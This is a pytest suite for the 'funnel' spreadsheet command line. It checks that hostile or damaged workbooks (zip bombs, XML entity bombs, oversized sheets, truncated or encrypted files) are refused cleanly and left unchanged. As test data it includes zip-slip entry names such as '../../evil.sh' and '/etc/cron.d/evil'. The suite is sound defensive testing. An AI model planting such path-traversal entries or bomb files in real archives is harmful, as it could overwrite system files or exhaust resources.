"""The ``funnel`` command line against hostile files, concurrent runs, kills and formula text.

Hostile and broken files go through the real console entry (``funnel_cli.main.main``)
in child processes limited to 2 GiB of address space (``RLIMIT_AS``). To keep the suite
fast, one harness process imports the CLI once and forks a child per command (the
child redirects its stdout and stderr to files, sets ``sys.argv`` and calls ``main()``
exactly as the ``funnel`` script does); the harness can SIGKILL a child after a delay or
when a named hook is reached, and traces how far each command got (parts inflated, cell
readers, engine, save). A few runs also go through the installed ``funnel`` script
itself, so the script's exit code is checked end to end.

Each refusal must be: non-zero exit, before the file is read (the part at fault inflated
at most, no cell reader, engine or save reached), one line on stderr naming the file and
the problem, no traceback, nothing on stdout, the file byte-identical, no lock or
temporary file left next to it. How long anything takes is not judged here; timeouts are
hang guards only.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from funnel.demo.data import demo_tables
from funnel.inputs.csvsource import write_csv_folder
from funnel_cli.main import app
from tests.support import hostile
from udfs.macros import refresh
from workbook.build import new_workbook
from workbook.errors import NOT_A_ZIP_FIX, TRIM_FIX, UNTRUSTED_FIX
from workbook.filebook import FileBook
from workbook.layout import OUTPUTS
from workbook.package import lock_path, open_package
from workbook.table_reader import read_tables

REPO = Path(__file__).resolve().parents[2]
MEMORY_LIMIT = 2 << 30  # RLIMIT_AS of every child: 2 GiB of address space
HANG_GUARD_S = 600  # the whole harness run: a hang guard only, the runs take well under a minute


# ---- the fork harness ----------------------------------------------------------------------------------
_HARNESS = textwrap.dedent(
    r'''
    import json, os, resource, signal, sys, time, traceback

    limit = int(sys.argv[3])
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    from funnel_cli import main as cli
    # Warm what the commands import lazily, so each child starts at the command itself.
    import funnel.analysis, udfs.macros, workbook.filebook, workbook.mapping, workbook.table_reader, workbook.package

    def pause(flag):
        open(flag, "w").close()
        time.sleep(120)

    def install(hook, flag):
        # Stop the refresh at a named point, so a SIGKILL lands exactly there.
        from workbook import table_reader
        from workbook.package import save, zipwriter
        if hook == "reading":
            table_reader._table_frame = lambda *a: pause(flag)
        elif hook == "computing":
            udfs.macros.run = lambda *a, **k: pause(flag)
        elif hook == "locked":
            save._remove_stale_temp_files = lambda dst: pause(flag)
        elif hook == "writing":
            copy_entry, done = zipwriter.PackageAssembler.copy_entry, []
            def halfway(self, pkg, member):
                done.append(member.name)
                if len(done) == len(pkg.members) // 2:
                    self._out.flush()
                    pause(flag)
                copy_entry(self, pkg, member)
            zipwriter.PackageAssembler.copy_entry = halfway
        elif hook == "replacing":
            save._before_replace = lambda tmp, dst: pause(flag)
        elif hook == "replaced":
            save._fsync_dir = lambda folder: pause(flag)
        elif hook == "copying":  # a hard-linked book: half the new contents copied into it
            copy_into = save._copy_into
            def halfway_in(src, dst, create=False):
                if not str(src).endswith(".funnel-tmp"):
                    return copy_into(src, dst, create=create)
                data = open(src, "rb").read()
                with open(dst, "r+b") as f:
                    f.write(data[: len(data) // 2])
                    f.flush()
                    os.fsync(f.fileno())
                pause(flag)
            save._copy_into = halfway_in
        else:
            raise ValueError(hook)

    def trace():
        # What the command got to, so a refusal can be shown to come before the file is
        # read: bytes inflated per part, XML with entity declarations handed to the parser,
        # calls of the cell readers (fastexcel, python-calamine), of the engine and of the save.
        import funnel.analysis
        from workbook import table_reader
        from workbook.package import XlsxPackage, writer, xmlsafety
        seen = {"inflated": {}, "entity_xml_parsed": 0, "cell_readers": 0, "engine": 0, "save": 0}
        inflate_part, fromstring = XlsxPackage.inflate_part, xmlsafety.ET.fromstring
        private_package, run, save = table_reader._private_package, funnel.analysis.run, writer.save_atomically

        def inflating(self, part, **kwargs):
            name = self.member(part).name
            for piece in inflate_part(self, part, **kwargs):
                seen["inflated"][name] = seen["inflated"].get(name, 0) + len(piece)
                yield piece

        def parsing(data, *args, **kwargs):
            seen["entity_xml_parsed"] += b"<!ENTITY" in data
            return fromstring(data, *args, **kwargs)

        def counted(key, fn):
            def call(*args, **kwargs):
                seen[key] += 1
                return fn(*args, **kwargs)
            return call

        XlsxPackage.inflate_part = inflating
        xmlsafety.ET.fromstring = parsing
        table_reader._private_package = counted("cell_readers", private_package)
        funnel.analysis.run = udfs.macros.run = counted("engine", run)
        writer.save_atomically = counted("save", save)
        return seen

    def child(job):
        for fd, name in ((1, job["out"]), (2, job["err"])):
            os.dup2(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644), fd)
        code = 99
        seen = trace() if job.get("trace") else None
        try:
            if job.get("hook"):
                install(job["hook"], job["flag"])
            sys.argv = ["funnel", *job["args"]]
            cli.main()
            code = 0
        except SystemExit as done:
            code = done.code if isinstance(done.code, int) else (0 if done.code is None else 1)
        except BaseException:
            traceback.print_exc()
        finally:
            sys.stdout.flush()
            sys.stderr.flush()
            if seen is not None:
                with open(job["trace"], "w") as f:
                    json.dump(seen, f)
            os._exit(code)

    results = []
    for job in json.load(open(sys.argv[1])):
        if job.get("flag") and os.path.exists(job["flag"]):
            os.unlink(job["flag"])
        start = time.monotonic()
        pid = os.fork()
        if pid == 0:
            child(job)
        killed = timed_out = False
        while True:
            got, status, usage = os.wait4(pid, os.WNOHANG)
            if got:
                break
            elapsed = time.monotonic() - start
            at_hook = job.get("flag") and os.path.exists(job["flag"])
            late = job.get("kill_after") is not None and elapsed >= job["kill_after"]
            # Hang guard only ("timed_out"): no command here takes a tenth of it.
            if at_hook or late or elapsed > job.get("timeout", 120):
                timed_out = not (at_hook or late)
                os.kill(pid, signal.SIGKILL)
                killed = True
                got, status, usage = os.wait4(pid, 0)
                break
            time.sleep(0.001)
        results.append({
            "code": os.waitstatus_to_exitcode(status), "wall": time.monotonic() - start, "killed": killed,
            "timed_out": timed_out, "maxrss_kib": usage.ru_maxrss,
            "stdout": open(job["out"], encoding="utf-8", errors="replace").read(),
            "stderr": open(job["err"], encoding="utf-8", errors="replace").read(),
            "reached": json.load(open(job["trace"])) if job.get("trace") and os.path.exists(job["trace"]) else None,
        })
        if job.get("snapshot"):  # the workbook as the child left it, before the next job runs
            src, dst = job["snapshot"]
            with open(src, "rb") as f, open(dst, "wb") as out:
                out.write(f.read())
            folder = os.path.dirname(src)
            results[-1]["left"] = sorted(n for n in os.listdir(folder) if n.startswith("~$"))
    json.dump(results, open(sys.argv[2], "w"))
    '''
)


def run_in_harness(jobs: list[dict], workdir: Path) -> list[dict]:
    """Run ``funnel`` commands, one forked child each, under the 2 GiB limit; their results.

    A job is ``{"args": [...]}`` plus optionally ``"kill_after": seconds`` or
    ``"hook": name`` (the child is killed when it reaches the hook), and ``"snapshot":
    [workbook, copy]`` to copy the workbook as the child left it. Temporary folders of the
    children go to ``workdir/tmp``.
    """
    workdir.mkdir(parents=True, exist_ok=True)
    for i, job in enumerate(jobs):
        job.setdefault("out", str(workdir / f"job{i}.out"))
        job.setdefault("err", str(workdir / f"job{i}.err"))
        job.setdefault("trace", str(workdir / f"job{i}.trace"))
        if job.get("hook"):
            job.setdefault("flag", str(workdir / f"job{i}.at-hook"))
    spec, results = workdir / "jobs.json", workdir / "results.json"
    spec.write_text(json.dumps(jobs))
    (workdir / "tmp").mkdir(exist_ok=True)
    env = dict(os.environ, PYTHONPATH=str(REPO), OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1", COLUMNS="100",
               TMPDIR=str(workdir / "tmp"))
    env.pop("FUNNEL_DEBUG", None)
    try:
        subprocess.run([sys.executable, "-c", _HARNESS, str(spec), str(results), str(MEMORY_LIMIT)],
                       env=env, cwd=workdir, check=True, timeout=HANG_GUARD_S)
    except subprocess.TimeoutExpired:
        pytest.fail(f"hung: the harness did not finish {len(jobs)} commands in {HANG_GUARD_S} s (hang guard)")
    return json.loads(results.read_text())


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def run_funnel_script(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """The installed ``funnel`` console script, under the 2 GiB limit."""
    script = shutil.which("funnel") or pytest.skip("the funnel console script is not installed")
    env = dict(os.environ, PYTHONPATH=str(REPO), COLUMNS="100")
    env.pop("FUNNEL_DEBUG", None)
    try:  # timeout: a hang guard only
        return subprocess.run([script, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120,
                              preexec_fn=_limit_memory)
    except subprocess.TimeoutExpired:
        pytest.fail(f"hung: funnel {' '.join(args)} did not end in 120 s (hang guard)")


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _leftovers(folder: Path) -> list[str]:
    # Lock and temporary files of a refresh: "~$<name>.funnel-lock", "~$<name>.*.funnel-tmp".
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("~$"))


# ---- hostile and broken files ------------------------------------------------------------------------
@pytest.fixture(scope="module")
def demo_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 60-deal demo workbook, refreshed: the source every hostile file is made from."""
    path = new_workbook(tmp_path_factory.mktemp("demo") / "demo.xlsm", "en", demo_tables(size=60, seed=3))
    refresh(FileBook(path))
    return path


def _hostile_files(src: Path, folder: Path) -> dict[str, tuple[Path, str]]:
    # file name -> (path, what the one-line refusal must say)
    folder.mkdir()
    opportunities = hostile.sheet_part(src, "Opportunities")
    untrusted, not_zip, trim = UNTRUSTED_FIX, NOT_A_ZIP_FIX, TRIM_FIX  # each refusal names its fix
    cases = {
        "zip_bomb.xlsm": (hostile.zip_bomb(src, folder / "zip_bomb.xlsm"), f"zip bomb?){untrusted}"),
        "lying_zip_bomb.xlsm": (hostile.lying_zip_bomb(src, folder / "lying_zip_bomb.xlsm"), f"(zip bomb?){untrusted}"),
        "laughs_in_strings.xlsm": (hostile.entity_bomb(src, folder / "laughs_in_strings.xlsm"),
                                   f"DTD/entity declarations are not allowed in a workbook (Excel never writes them){untrusted}"),
        "laughs_in_sheet.xlsm": (hostile.entity_bomb(src, folder / "laughs_in_sheet.xlsm", part=opportunities, bom=True),
                                 f"sheet 'Opportunities' ({opportunities}): XML DTD/entity declarations are not allowed"),
        "huge_dimension.xlsm": (hostile.huge_sheet(src, folder / "huge_dimension.xlsm"),
                                f"sheet 'Opportunities' ({opportunities}): declares a used range A1:XFD1048576 of "
                                f"17,179,869,184 cells (limit 20,000,000){trim}"),
        "corner_cells.xlsm": (hostile.huge_sheet(src, folder / "corner_cells.xlsm", corners_only=True),
                              f"sheet 'Opportunities' ({opportunities}): cells span 1,048,576 rows x 16,384 columns = "
                              f"17,179,869,184 positions (limit 20,000,000){trim}"),
        "truncated.xlsm": (hostile.truncated(src, folder / "truncated.xlsm"), "truncated"),
        "cut_short.xlsm": (hostile.truncated(src, folder / "cut_short.xlsm", keep=0.999), "truncated"),
        "password_ole.xlsm": (hostile.encrypted_ole(folder / "password_ole.xlsm"), "password-protected"),
        "picture.xlsm": (hostile.png_file(folder / "picture.xlsm"), f"(no end of central directory){not_zip}"),
        "export.xlsm": (hostile.csv_file(folder / "export.xlsm"), f"(no end of central directory){not_zip}"),
        "empty.xlsm": (hostile.empty_file(folder / "empty.xlsm"), f"not a zip file (too short){not_zip}"),
    }
    if hostile.encrypted_by_msoffcrypto(src, folder / "password.xlsm") is not None:
        cases["password.xlsm"] = (folder / "password.xlsm", "password-protected")
    return cases


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory: pytest.TempPathFactory, demo_book: Path):
    """Every hostile file through ``funnel refresh`` and ``funnel report``, plus controls."""
    root = tmp_path_factory.mktemp("hostile")
    cases = _hostile_files(demo_book, root / "files")
    # The far corner cell on an output sheet: report reads only inputs, refresh must refuse.
    out_corner = hostile.huge_sheet(demo_book, root / "files" / "corner_on_output.xlsm", sheet="Stages", corners_only=True)
    control = root / "files" / "valid.xlsm"
    shutil.copy(demo_book, control)
    hashes = {name: _sha256(path) for name, (path, _) in cases.items()}
    hashes.update({out_corner.name: _sha256(out_corner), control.name: _sha256(control)})
    jobs = []
    for name, (path, _) in {**cases, out_corner.name: (out_corner, ""), control.name: (control, "")}.items():
        jobs.append({"args": ["refresh", str(path)], "case": name, "command": "refresh"})
        jobs.append({"args": ["report", str(path), "--format", "json"], "case": name, "command": "report"})
    results = run_in_harness(jobs, root / "runs")
    runs = {(job["case"], job["command"]): result for job, result in zip(jobs, results)}
    return cases, runs, hashes, root / "files"


def _hostile_ids() -> list[str]:
    return ["zip_bomb.xlsm", "lying_zip_bomb.xlsm", "laughs_in_strings.xlsm", "laughs_in_sheet.xlsm",
            "huge_dimension.xlsm", "corner_cells.xlsm", "truncated.xlsm", "cut_short.xlsm", "password.xlsm",
            "password_ole.xlsm", "picture.xlsm", "export.xlsm", "empty.xlsm"]


# The parts each refusal comes before inflating (prefixes of part names; "": every part).
# The others are refused from the part at fault once it is inflated: laughs in a sheet, a
# huge dimension, far corner cells. No refusal reaches a cell reader, the engine or the save.
_NOT_INFLATED = {
    "zip_bomb.xlsm": "",  # the zip directory gives it away (about 1000:1)
    "lying_zip_bomb.xlsm": "xl/worksheets/sheet",  # inflating stops at the sheet's declared size, handing on nothing
    "laughs_in_strings.xlsm": "xl/worksheets/sheet",  # the shared strings are vetted before any sheet
    "truncated.xlsm": "", "cut_short.xlsm": "", "password.xlsm": "", "password_ole.xlsm": "",
    "picture.xlsm": "", "export.xlsm": "", "empty.xlsm": "",
}


def _assert_refused(run: dict, name: str, problem: str, inputs_read: bool = False) -> None:
    assert not run["timed_out"], f"hung: killed by the harness's hang guard; stderr: {run['stderr']!r}"
    assert not run["killed"]
    assert run["code"] == 2, f"exit code {run['code']}; stderr: {run['stderr']!r}"
    # Refused before the file is read: the spies of the harness's trace().
    reached = run["reached"]
    assert reached["save"] == 0 and reached["entity_xml_parsed"] == 0, reached
    if not inputs_read:
        assert reached["cell_readers"] == 0 and reached["engine"] == 0, reached
    if name in _NOT_INFLATED:
        inflated = [part for part in reached["inflated"] if part.startswith(_NOT_INFLATED[name])]
        assert inflated == [], f"inflated {inflated} before refusing"
    assert run["stdout"] == ""
    lines = run["stderr"].strip().splitlines()
    assert len(lines) == 1, f"not one line: {run['stderr']!r}"
    assert "Traceback" not in run["stderr"]
    assert lines[0].startswith("funnel: ") and name in lines[0] and problem in lines[0], lines[0]


@pytest.mark.parametrize("name", _hostile_ids())
@pytest.mark.parametrize("command", ["refresh", "report"])
def test_hostile_file_is_refused_in_one_line(hostile_runs, name: str, command: str) -> None:
    cases, runs, hashes, folder = hostile_runs
    if name not in cases:
        pytest.skip("msoffcrypto-tool is not installed: no agile-encrypted file to try")
    path, problem = cases[name]
    run = runs[(name, command)]
    _assert_refused(run, name, problem)
    # Bounded memory: the 2 GiB limit held (no MemoryError, no abort) and the peak stayed small.
    assert run["maxrss_kib"] < 1 << 20, f"peak RSS {run['maxrss_kib'] / 1024:.0f} MiB"
    assert _sha256(path) == hashes[name], "the refused file was changed"
    assert _leftovers(folder) == []


_REFUSAL = {  # the exception the file-backed book raises for each file
    "zip_bomb.xlsm": "WorkbookTooLarge", "lying_zip_bomb.xlsm": "NotAWorkbook",
    "laughs_in_strings.xlsm": "NotAWorkbook", "laughs_in_sheet.xlsm": "NotAWorkbook",
    "huge_dimension.xlsm": "WorkbookTooLarge", "corner_cells.xlsm": "WorkbookTooLarge",
    "truncated.xlsm": "NotAWorkbook", "cut_short.xlsm": "NotAWorkbook", "password.xlsm": "NotAWorkbook",
    "password_ole.xlsm": "NotAWorkbook", "picture.xlsm": "NotAWorkbook", "export.xlsm": "NotAWorkbook",
    "empty.xlsm": "NotAWorkbook",
}


@pytest.mark.parametrize("name", _hostile_ids())
def test_file_book_refuses_with_the_workbook_error_tree(hostile_runs, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # The macro over a FileBook, in this process: only after the bounded run above refused it cleanly.
    from udfs import macros
    from workbook import errors, table_reader
    from workbook.package import writer

    cases, runs, hashes, folder = hostile_runs
    if name not in cases:
        pytest.skip("msoffcrypto-tool is not installed: no agile-encrypted file to try")
    if runs[(name, "refresh")]["code"] != 2:
        pytest.skip("the bounded run did not refuse it; not trying it unbounded")
    path, problem = cases[name]

    def unreachable(*args, **kwargs):
        raise AssertionError("reached the cell readers, the engine or the save: the file was read before it was refused")

    # Refused before the file is read: reaching any of these fails at once.
    for module, function in ((table_reader, "_private_package"), (macros, "run"), (writer, "save_atomically")):
        monkeypatch.setattr(module, function, unreachable)
    with pytest.raises(errors.WorkbookError) as err:
        refresh(FileBook(path))
    assert type(err.value).__name__ == _REFUSAL[name] and problem in str(err.value)
    assert _sha256(path) == hashes[name] and _leftovers(folder) == []


def test_report_reads_only_inputs_but_refresh_refuses_a_huge_output_sheet(hostile_runs) -> None:
    cases, runs, hashes, folder = hostile_runs
    name = "corner_on_output.xlsm"
    # Refresh reads the inputs and runs the engine, then refuses to write the output sheet.
    _assert_refused(runs[(name, "refresh")], name, "cells span 1,048,576 rows x 16,384 columns", inputs_read=True)
    report = runs[(name, "report")]
    assert report["code"] == 0 and report["stderr"] == ""
    assert json.loads(report["stdout"])["summary"][1] == {"metric": "open_deals", "value": 8}
    assert _sha256(folder / name) == hashes[name]


def test_a_valid_workbook_refreshes_under_the_same_limits(hostile_runs) -> None:
    # The control: the 2 GiB limit and the harness do not refuse everything.
    cases, runs, hashes, folder = hostile_runs
    refreshed, report = runs[("valid.xlsm", "refresh")], runs[("valid.xlsm", "report")]
    assert refreshed["code"] == 0, refreshed["stderr"]
    assert refreshed["stdout"].startswith(f"Refreshed {len(OUTPUTS)} output tables from 60 deals.")
    assert report["code"] == 0 and json.loads(report["stdout"])["summary"][0]["metric"] == "as_of"


def test_the_funnel_script_exits_non_zero_on_a_refused_file(hostile_runs, tmp_path: Path) -> None:
    # Through the installed console script: the exit code reaches the shell.
    cases, runs, hashes, folder = hostile_runs
    path, problem = cases["truncated.xlsm"]
    done = run_funnel_script("refresh", str(path), cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip() == ("funnel: truncated.xlsm is not a zip file, or is truncated (no end of central directory); "
                                   "if it is a workbook, open it in Excel and save it as .xlsm (File > Save As), or copy it "
                                   "again if this copy was cut short")
    assert done.stdout == "" and _sha256(path) == hashes["truncated.xlsm"]


def test_missing_file_and_bad_option_exit_non_zero(tmp_path: Path) -> None:
    runner = CliRunner()
    missing = runner.invoke(app, ["refresh", str(tmp_path / "nope.xlsm")])
    assert missing.exit_code == 2 and "no such workbook" in missing.output
    bad = runner.invoke(app, ["report", str(tmp_path), "--format", "xml"])
    assert bad.exit_code == 2 and "--format takes table, json, csv, xlsx, got 'xml'" in bad.output


# ---- links, Excel's owner file, full and read-only disks, damaged and hostile zips ----------------------
_OWNER_FIX = "close it there and try again, or pass --force if Excel is not running"
_DAMAGE_FIX = "(re-save it from Excel or restore a backup)"
_ENTRY_FIX = "(a workbook never has one; re-save it from Excel or restore a backup)"


@pytest.fixture(scope="module")
def file_runs(tmp_path_factory: pytest.TempPathFactory, demo_book: Path):
    """Each case in a folder of its own, through ``funnel refresh`` (and ``funnel report`` for
    damaged files) in the harness: {case: (job results, workbook, folder, sha256 before, line)}.
    Cases that need a small tmpfs or chattr are left out where this process cannot have them."""
    root = tmp_path_factory.mktemp("files")
    opportunities = hostile.sheet_part(demo_book, "Opportunities")
    cases: dict[str, tuple[Path, list[list[str]], str | None]] = {}  # name -> (book, commands, expected line)
    mounts: list[Path] = []

    def folder(name: str) -> Path:
        (root / name).mkdir()
        return root / name

    def copy(name: str, src: Path = demo_book) -> Path:
        return Path(shutil.copy(src, folder(name) / f"{name}.xlsm"))

    # The successes start from a book never refreshed, so a save shows as changed bytes.
    unrefreshed = new_workbook(root / "unrefreshed.xlsm", "en", demo_tables(size=60, seed=3))

    book = copy("open_in_excel")
    hostile.excel_owner_file(book, "Li Wei")
    cases["open_in_excel"] = (book, [["refresh"]], f"open_in_excel.xlsm is open in Excel by Li Wei (owner file "
                                                    f"~$open_in_excel.xlsm); {_OWNER_FIX}")
    book = copy("forced", unrefreshed)
    hostile.excel_owner_file(book, "Li Wei")
    cases["forced"] = (book, [["refresh", "--force"]], None)
    for kind, what in (("checksum", "fails its checksum"), ("deflate", "has corrupt compressed data")):
        name = f"damaged_{kind}"
        book = hostile.damaged(demo_book, folder(name) / f"{name}.xlsm", opportunities, kind)
        cases[name] = (book, [["refresh"], ["report", "--format", "json"]],
                       f"{name}.xlsm is damaged: {opportunities} {what} {_DAMAGE_FIX}")
    for name, entry, rename, why in (
        ("zip_slip", "../../evil.sh", None, "climbs out of the package with '..'"),
        ("absolute_entry", "/etc/cron.d/evil", None, "is an absolute path"),
        ("backslash_entry", "xl\\workbook.xml", "xl/workbook.xml", "uses backslashes, which part names never do"),
    ):
        book = hostile.odd_entry_name(demo_book, folder(name) / f"{name}.xlsm", entry, rename=rename)
        cases[name] = (book, [["refresh"], ["report", "--format", "json"]],
                       f"{name}.xlsm is refused: its zip entry {entry!r} {why} {_ENTRY_FIX}")
    data, desk = folder("link_target"), folder("link")
    shutil.copy(unrefreshed, data / "Q4.xlsm")
    (desk / "symlink.xlsm").symlink_to(Path("..") / "link_target" / "Q4.xlsm")
    cases["symlink"] = (desk / "symlink.xlsm", [["refresh"]], None)
    book = copy("hardlink", unrefreshed)
    os.link(book, book.with_name("other name.xlsm"))
    cases["hardlink"] = (book, [["refresh"]], None)
    for name, prepare in (("disk_full", "fill"), ("read_only", "ro"), ("immutable", "chattr")):
        disk = root / name
        if not hostile.mount_tmpfs(disk, 4 << 20):
            continue
        mounts.append(disk)
        book = Path(shutil.copy(demo_book, disk / f"{name}.xlsm"))
        if prepare == "fill":
            hostile.fill_disk(disk)
            line = f"could not save {name}.xlsm: the disk is full (nothing was changed; free some space and try again)"
        elif prepare == "ro":
            subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True, capture_output=True)
            line = (f"could not save {name}.xlsm: {disk} is on a read-only file system (nothing was changed; copy the "
                    "workbook to a writable folder (or save elsewhere with --out) and try again)")
        elif hostile.set_immutable(book):
            line = (f"could not save {name}.xlsm: permission denied in {disk} (nothing was changed; make the folder and "
                    "the workbook writable, or close the program that holds the file, and try again)")
        else:
            continue
        cases[name] = (book, [["refresh"]], line)
    hashes = {name: _sha256(book) for name, (book, _, _) in cases.items()}
    jobs = [{"args": [command[0], str(book), *command[1:]], "case": name}
            for name, (book, commands, _) in cases.items() for command in commands]
    try:
        results = run_in_harness(jobs, root / "runs")
        runs: dict[str, list[dict]] = {}
        for job, result in zip(jobs, results):
            runs.setdefault(job["case"], []).append(result)
        yield {name: (runs[name], book, hashes[name], line) for name, (book, _, line) in cases.items()}
    finally:
        for disk in mounts:
            for path in disk.iterdir():
                hostile.set_immutable(path, on=False)
            hostile.unmount(disk)


_REFUSED_FILES = ["open_in_excel", "damaged_checksum", "damaged_deflate", "zip_slip", "absolute_entry", "backslash_entry",
                  "disk_full", "read_only", "immutable"]


@pytest.mark.parametrize("name", _REFUSED_FILES)
def test_a_file_that_cannot_be_saved_safely_is_refused_in_one_exact_line(file_runs, name: str) -> None:
    """Exit 2, exactly the one line, nothing on stdout, the workbook byte-identical, and no lock,
    temporary or backup file of ours left (Excel's own owner file stays where it was)."""
    if name not in file_runs:
        pytest.skip("needs a tmpfs (root with CAP_SYS_ADMIN) and chattr")
    runs, book, before, line = file_runs[name]
    for run in runs:
        assert not run["timed_out"] and not run["killed"]
        assert (run["code"], run["stdout"], run["stderr"]) == (2, "", f"funnel: {line}\n"), run
    assert _sha256(book) == before, "the refused file was changed"
    expected = ["~$open_in_excel.xlsm"] if name == "open_in_excel" else []
    assert _leftovers(book.parent) == expected


def test_force_refreshes_a_workbook_whose_owner_file_is_stale(file_runs) -> None:
    (run,), book, before, _ = file_runs["forced"]
    assert run["code"] == 0 and run["stderr"] == "", run
    assert run["stdout"].startswith(f"Refreshed {len(OUTPUTS)} output tables from 60 deals.")
    assert _sha256(book) != before and _leftovers(book.parent) == ["~$forced.xlsm"]


def test_refresh_through_a_symbolic_link_keeps_the_link(file_runs) -> None:
    (run,), link, before, _ = file_runs["symlink"]
    assert run["code"] == 0 and run["stderr"] == "", run
    assert link.is_symlink() and os.readlink(link) == str(Path("..") / "link_target" / "Q4.xlsm")
    target = link.parent.parent / "link_target" / "Q4.xlsm"
    assert _sha256(target) != before and set(read_tables(target, list(OUTPUTS))) == set(OUTPUTS)
    assert _leftovers(link.parent) == [] and _leftovers(target.parent) == []


def test_refresh_keeps_a_hard_link(file_runs) -> None:
    (run,), book, before, _ = file_runs["hardlink"]
    other = book.with_name("other name.xlsm")
    assert run["code"] == 0 and run["stderr"] == "", run
    assert os.path.samefile(book, other) and book.stat().st_nlink == 2
    assert _sha256(book) != before and other.read_bytes() == book.read_bytes()
    assert _leftovers(book.parent) == []


def test_a_refresh_killed_while_copying_into_a_hard_linked_book_is_undone_by_the_next(kill_book, tmp_path: Path) -> None:
    """Killed halfway through copying new contents into a hard-linked workbook: the book is
    half-written, its old contents in the backup beside it. The next refresh puts them back,
    then refreshes: both names hold the same complete workbook, nothing left beside it."""
    src, reference = kill_book
    book = Path(shutil.copy(src, tmp_path / "book.xlsm"))
    other = tmp_path / "other name.xlsm"
    os.link(book, other)
    original = book.read_bytes()
    runs = _kill_chain(book, [{"args": ["refresh", str(book)], "hook": "copying"}, {"args": ["refresh", str(book)]}],
                       tmp_path / "chain")
    (_, killed, after_kill), (_, last, _) = runs
    assert killed["killed"] and not killed["timed_out"], killed
    assert after_kill != original, "the kill did not land in the middle of the copy"
    assert sorted(n if n in (_LOCK, "~$book.xlsm.funnel-backup") else _TEMP for n in killed["left"]) == sorted(
        [_LOCK, _TEMP, "~$book.xlsm.funnel-backup"])
    assert last["code"] == 0 and last["left"] == [], last
    _assert_valid_and_refreshed(book, reference)
    assert os.path.samefile(book, other) and other.read_bytes() == book.read_bytes()

# ---- inputs refused: a missing table or column changes nothing -----------------------------------------
_FORCE = "(--force: go ahead with what can be computed)"


def _stage_codes(path: Path, codes: list[str]) -> None:
    # Retype the Stage scheme's codes: every deal's stage is then unknown.
    hostile.set_cells(path, "Stage scheme", {f"A{row}": f'<c r="A{row}" t="inlineStr"><is><t>{code}</t></is></c>'
                                             for row, code in enumerate(codes, start=2)})


# file -> (the edit a user makes, the exact refusal). Each must exit 2 with one line, leave the
# file byte-identical, and never reach the save.
_INPUT_REFUSALS = {
    "amount_renamed.xlsm": (
        lambda p: hostile.rename_headers(p, "tblOpportunities", {"Amount": "Amout"}),
        "tblOpportunities has no column Amount (found Amout): rename it back to Amount, or map it in Settings "
        "(column_names: Amount=Amout)"),
    "stage_renamed.xlsm": (
        lambda p: hostile.rename_headers(p, "tblOpportunities", {"Stage": "Phase"}),
        "tblOpportunities has no column Stage (headers not recognised: Phase): rename the one that holds it to Stage, "
        "or map it in Settings (column_names: Stage=that header)"),
    "order_renamed.xlsm": (
        lambda p: hostile.rename_headers(p, "tblStages", {"Order": "Rank"}),
        "tblStages has no column Order (headers not recognised: Rank): rename the one that holds it to Order, "
        "or map it in Settings (column_names: Order=that header)"),
    "opportunities_renamed.xlsm": (
        lambda p: hostile.rename_table(p, "tblOpportunities", "tblDeals"),
        "no Excel table named tblOpportunities in opportunities_renamed.xlsm; tables with other names: tblDeals. "
        "Rename the table back to tblOpportunities (Table Design > Table Name), or undo the deletion"),
    "history_deleted.xlsm": (
        lambda p: hostile.delete_sheet(p, "Stage history"),
        "no Excel table named tblStageHistory in history_deleted.xlsm. Rename the table back to tblStageHistory "
        "(Table Design > Table Name), or undo the deletion"),
    "no_usable_deal.xlsm": (
        lambda p: _stage_codes(p, ["K1", "K2", "K3", "K4", "K5"]),
        "none of the 60 deals in the opportunities table can be used (row 2: unknown stage 'W' (known: K1, K2, K3, K4, K5)): "
        "correct those cells, or the stage scheme if the stage codes are right"),
}


@pytest.fixture(scope="module")
def input_refusal_runs(tmp_path_factory: pytest.TempPathFactory, demo_book: Path):
    """Each refused edit through ``funnel refresh`` and ``funnel report``, and once with ``--force``."""
    root = tmp_path_factory.mktemp("refused")
    (root / "files").mkdir()
    paths, hashes, jobs = {}, {}, []
    for name, (edit, _) in _INPUT_REFUSALS.items():
        path = root / "files" / name
        shutil.copy(demo_book, path)
        edit(path)
        paths[name], hashes[name] = path, _sha256(path)
        jobs.append({"args": ["refresh", str(path)], "case": name, "command": "refresh"})
        jobs.append({"args": ["report", str(path), "--format", "json"], "case": name, "command": "report"})
    forced = root / "files" / "forced.xlsm"
    shutil.copy(paths["amount_renamed.xlsm"], forced)
    jobs.append({"args": ["refresh", str(forced), "--force"], "case": "forced.xlsm", "command": "refresh"})
    jobs.append({"args": ["report", str(forced), "--format", "json", "--force"], "case": "forced.xlsm", "command": "report"})
    results = run_in_harness(jobs, root / "runs")
    return {(job["case"], job["command"]): result for job, result in zip(jobs, results)}, paths, hashes, forced


@pytest.mark.parametrize("name", list(_INPUT_REFUSALS))
@pytest.mark.parametrize("command", ["refresh", "report"])
def test_a_missing_table_or_column_is_refused_and_the_file_is_unchanged(input_refusal_runs, name: str, command: str) -> None:
    runs, paths, hashes, _ = input_refusal_runs
    run = runs[(name, command)]
    assert not run["timed_out"] and not run["killed"]
    assert run["code"] == 2, f"exit code {run['code']}; stderr: {run['stderr']!r}"
    assert run["reached"]["save"] == 0, run["reached"]
    assert run["stdout"] == ""
    said = "Nothing was refreshed, the workbook is unchanged" if command == "refresh" else "no report"
    assert run["stderr"] == f"funnel: {name}: {said}: {_INPUT_REFUSALS[name][1]} {_FORCE}\n"
    assert _sha256(paths[name]) == hashes[name], "a refused refresh changed the file"
    assert _leftovers(paths[name].parent) == []


